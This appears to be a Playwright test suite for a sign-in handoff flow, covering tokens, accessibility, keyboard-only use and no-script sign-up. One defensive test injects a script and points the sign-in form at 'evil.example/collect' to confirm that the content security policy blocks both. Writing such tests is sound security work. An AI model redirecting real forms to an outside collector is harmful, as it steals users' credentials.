import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import supertest from 'supertest';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import {
  describeWithBrowser,
  expectAccessible,
  expectFits,
  focused,
  openBrowser,
  outline,
  pageOf,
  SIZES,
} from '../../kit/browser.js';
import { eventually, startService, type TestService } from '../../kit/index.js';

const PASSWORD = 'correct horse battery staple';
const STATE = 'a-state-of-the-app_0123456789';
const DESKTOP = `/auth/desktop-handoff?client_state=${STATE}`;

describeWithBrowser('the handoff pages in a browser', () => {
  let service: TestService;
  let browser: Browser;
  let editor: Editor;
  beforeAll(async () => {
    editor = await Editor.start();
    service = await startService({ isAtBaseUrl: true, env: { EDITOR_CALLBACK_URL: editor.callback } });
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await service.close();
    editor.close();
  });
  beforeEach(() => {
    editor.referrers.length = 0;
  });

  /** A new person with an account, at a new browser. */
  async function visitor(options: BrowserContextOptions = {}) {
    const email = `visitor-${++visitors}@example.org`;
    await supertest(service.url)
      .post('/api/auth/sign-up/email')
      .set('Origin', service.url)
      .send({ email, password: PASSWORD, name: 'Ada Lovelace' })
      .expect(200);
    const context = await browser.newContext({ baseURL: service.url, ...options });
    return { email, context, page: await pageOf(context) };
  }
  let visitors = 0;

  const web = (): string =>
    `/auth/web-handoff?client_state=${STATE}&return_to=${encodeURIComponent(editor.callback)}`;

  /** The user that a token signs in. */
  async function userOf(token: string | null): Promise<string> {
    const verified = await supertest(service.url)
      .post('/api/auth/one-time-token/verify')
      .set('Origin', service.url)
      .send({ token });
    return String(verified.body.user?.email);
  }

  const tokenIn = (address: string | null): string | null => new URL(address ?? '').searchParams.get('token');

  describe.each(SIZES)('%s', (_, viewport) => {
    describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
      it('the app is signed in, on accessible pages', async () => {
        const { email, context, page } = await visitor({ viewport, colorScheme });
        await page.goto(DESKTOP);
        await expectFits(page);
        await page.getByText('New here?').click();
        await expectAccessible(page);
        await page.getByText('Have an account?').click();

        await page.getByLabel('Email address').first().fill(email);
        await page.getByLabel('Password').first().fill('not the password');
        await page.getByRole('button', { name: 'Sign in', exact: true }).click();
        await page.getByText('is wrong').waitFor();
        expect(await focused(page)).toBe('sign-in-password');
        await expectAccessible(page);

        await page.getByLabel('Password').first().fill(PASSWORD);
        await page.getByRole('button', { name: 'Sign in', exact: true }).click();
        const open = page.getByRole('link', { name: 'Open cloudsync' });
        await open.waitFor();
        await expectAccessible(page);
        await expectFits(page);
        expect(await userOf(tokenIn(await open.getAttribute('href')))).toBe(email);
        await context.close();
      });

      it('the website is signed in, and receives only the token', async () => {
        const { email, context, page } = await visitor({ viewport, colorScheme });
        await page.goto(web());
        await signIn(page, email);
        await page.waitForURL(`${editor.callback}**`);
        expect(await userOf(tokenIn(page.url()))).toBe(email);
        expect(editor.referrers).toEqual([undefined]);

        await page.goto(web());
        await expectFits(page);
        await page.getByText('Use another account').click();
        await expectAccessible(page);
        await page.getByRole('button', { name: 'Continue as Ada Lovelace' }).click();
        await page.waitForURL(`${editor.callback}**`);
        expect(await userOf(tokenIn(page.url()))).toBe(email);
        await context.close();
      });
    });

    it('the app is signed in with only the keyboard', async () => {
      const { email, context, page } = await visitor({ viewport });
      // Without the script that opens the app, whose permission prompt would take the keys.
      await page.route('**/*.js', (route) => route.abort());
      await page.goto(DESKTOP);
      await page.locator('#sign-in-email:focus').waitFor();
      await page.keyboard.type(email);
      await page.keyboard.press('Tab');
      await page.keyboard.type('not the password');
      await page.keyboard.press('Enter');
      await page.getByText('is wrong').waitFor();
      await page.locator('#sign-in-password:focus').waitFor();
      await page.keyboard.type(PASSWORD);
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      const open = page.getByRole('link', { name: 'Open cloudsync' });
      await open.waitFor();
      await expectFirstStop(page, 'Open cloudsync');
      expect(await outline(page)).toBe('3px');
      expect(await userOf(tokenIn(await open.getAttribute('href')))).toBe(email);

      await page.goto(DESKTOP);
      await expectFirstStop(page, 'Continue as Ada Lovelace');
      expect(await outline(page)).toBe('3px');
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter'); // Use another account
      await page.keyboard.press('Tab');
      expect(await focused(page)).toBe('sign-in-email');
      await context.close();
    });

    it('the website is signed in with only the keyboard', async () => {
      const { email, context, page } = await visitor({ viewport });
      await page.goto(web());
      await page.locator('#sign-in-email:focus').waitFor();
      await page.keyboard.type(email);
      await page.keyboard.press('Tab');
      await page.keyboard.type(PASSWORD);
      await page.keyboard.press('Tab');
      expect(await outline(page)).toBe('3px');
      await page.keyboard.press('Enter');
      await page.waitForURL(`${editor.callback}**`);
      expect(await userOf(tokenIn(page.url()))).toBe(email);

      await page.goto(web());
      await expectFirstStop(page, 'Continue as Ada Lovelace');
      await page.keyboard.press('Enter');
      await page.waitForURL(`${editor.callback}**`);
      expect(await userOf(tokenIn(page.url()))).toBe(email);
      await context.close();
    });

    it('both are signed in without scripts, including sign-up', async () => {
      const email = `no-script-${++visitors}@example.org`;
      const context = await browser.newContext({
        baseURL: service.url,
        viewport,
        javaScriptEnabled: false,
      });
      const page = await pageOf(context);
      await page.goto(DESKTOP);
      await page.getByText('New here?').click();
      await page.getByLabel('Name').fill('No Script');
      await page.locator('#sign-up-email').fill(email);
      await page.locator('#sign-up-password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Sign up' }).click();
      const link = page.locator('#link');
      await link.waitFor();
      expect(await page.getByRole('button', { name: 'Copy' }).isVisible()).toBe(false);
      expect(await userOf(tokenIn(await link.inputValue()))).toBe(email);

      await page.goto(web());
      await page.getByRole('button', { name: 'Continue as No Script' }).click();
      await page.waitForURL(`${editor.callback}**`);
      expect(await userOf(tokenIn(page.url()))).toBe(email);
      await context.close();
    });
  });

  it('open the app by script, and show how long the link is valid', async () => {
    const { email, context, page } = await visitor();
    const devtools = await context.newCDPSession(page);
    await devtools.send('Page.enable');
    const tried = new Promise<string>((resolve) => {
      devtools.on('Page.frameRequestedNavigation', ({ url, reason }) => {
        if (reason === 'scriptInitiated') resolve(url);
      });
    });
    await page.goto(DESKTOP);
    await signIn(page, email);
    expect(await tried).toBe(await page.locator('#link').inputValue());
    await page.getByText(/\(2:5\d left\)/).waitFor();
    await context.close();
  });

  it('run no injected script, and send forms to no other origin', async () => {
    const context = await browser.newContext({ baseURL: service.url });
    const page = await pageOf(context);
    await page.goto(DESKTOP);
    const done = await page.evaluate(async () => {
      const script = document.createElement('script');
      try {
        script.text = 'document.title = "hijacked"';
        document.body.append(script);
      } catch {
        // refused before it is in the page
      }
      const violated = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => {
          if (event.effectiveDirective === 'form-action') resolve(event.effectiveDirective);
        }),
      );
      const form = document.querySelector('form')!;
      form.action = 'https://evil.example/collect';
      form.noValidate = true;
      form.requestSubmit();
      return { title: document.title, violated: await violated };
    });
    expect(done).toEqual({ title: 'Sign in to cloudsync', violated: 'form-action' });
    await context.close();
  });
});

/** The first stop after the header. Repeats the key, as a page that has just loaded may miss it. */
async function expectFirstStop(page: Page, text: string): Promise<void> {
  await eventually(async () => {
    const isBefore = (): Promise<boolean> =>
      page.evaluate(() => document.activeElement?.matches('body, header *') === true);
    for (let stop = 0; stop < 8 && (await isBefore()); stop++) await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(text);
  });
}

async function signIn(page: Page, email: string): Promise<void> {
  await page.getByLabel('Email address').first().fill(email);
  await page.getByLabel('Password').first().fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
}

/** The website that signs in; it records the referrers. */
class Editor {
  readonly referrers: (string | undefined)[] = [];

  private constructor(
    private readonly server: Server,
    readonly callback: string,
  ) {}

  static async start(): Promise<Editor> {
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const editor = new Editor(server, `http://localhost:${port}/callback`);
    server.on('request', (request, response) => {
      if (request.url?.startsWith('/callback')) editor.referrers.push(request.headers.referer);
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>Editor</title>');
    });
    return editor;
  }

  close(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}
